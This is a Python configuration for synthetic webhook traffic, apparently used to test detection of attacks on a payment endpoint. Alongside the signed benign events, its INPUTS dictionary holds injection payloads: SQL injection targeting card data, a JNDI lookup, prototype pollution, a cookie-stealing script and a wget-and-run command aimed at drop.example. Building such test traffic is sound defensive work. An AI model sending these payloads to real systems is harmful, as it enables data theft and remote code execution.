# SPDX-License-Identifier: Apache-2.0
"""What a payment provider sends to webhook, and what attackers do. They have the secret, else nothing of theirs is read."""

import hashlib
import hmac
import json

RUNTIME = "node"
HANDLER = "index.handler"
EVENTS = 24000  # it has rare paths: learning takes some 7,000
SERVICES = ["http"]
ENVIRONMENT = {"WEBHOOK_SECRET": "whsec-4f0e", "BOOKS_URL": "http://127.0.0.1:8081"}


def _sent(traffic, body):
    signature = hmac.new(ENVIRONMENT["WEBHOOK_SECRET"].encode(), body.encode(), hashlib.sha256).hexdigest()
    return traffic.http("POST", "/hooks/payments", body=body, headers={"X-Signature": signature if not traffic.happens(0.01) else "0" * 64})


def _call(traffic, kind=None, **data):
    kind = kind or traffic.choices(["payment.succeeded", "payment.refunded", "dispute.opened", "customer.updated"], [70, 12, 1, 17])[0]
    return {"id": f"evt_{traffic.hex(24)}", "type": kind, "created": traffic.randrange(1_760_000_000, 1_790_000_000),
            "data": {"amount": traffic.amount(), "currency": traffic.choice(["eur", "usd", "czk"]), "customer": traffic.person(),
                     "email": traffic.email(), "reason": traffic.sentence(), "reference": traffic.uuid(), **data}}


def benign(traffic):
    if traffic.happens(0.005):
        return _sent(traffic, traffic.sentence())
    return _sent(traffic, json.dumps(_call(traffic), ensure_ascii=False))


def _with(**data):
    return lambda traffic: _sent(traffic, json.dumps(_call(traffic, "payment.succeeded", **data)))


INPUTS = {
    "statement": _with(reference="x' UNION SELECT card, cvv FROM cards --"),
    "lookup": _with(customer="${jndi:ldap://drop.example/a}"),
    "prototype": lambda traffic: _sent(traffic, '{"id":"e","type":"customer.updated","__proto__":{"isAdmin":true}}'),
    "script": _with(reason="<script>new Image().src='//drop.example/?'+document.cookie</script>"),
    "command": _with(reference="; wget http://drop.example/a -O /tmp/a; sh /tmp/a"),
}
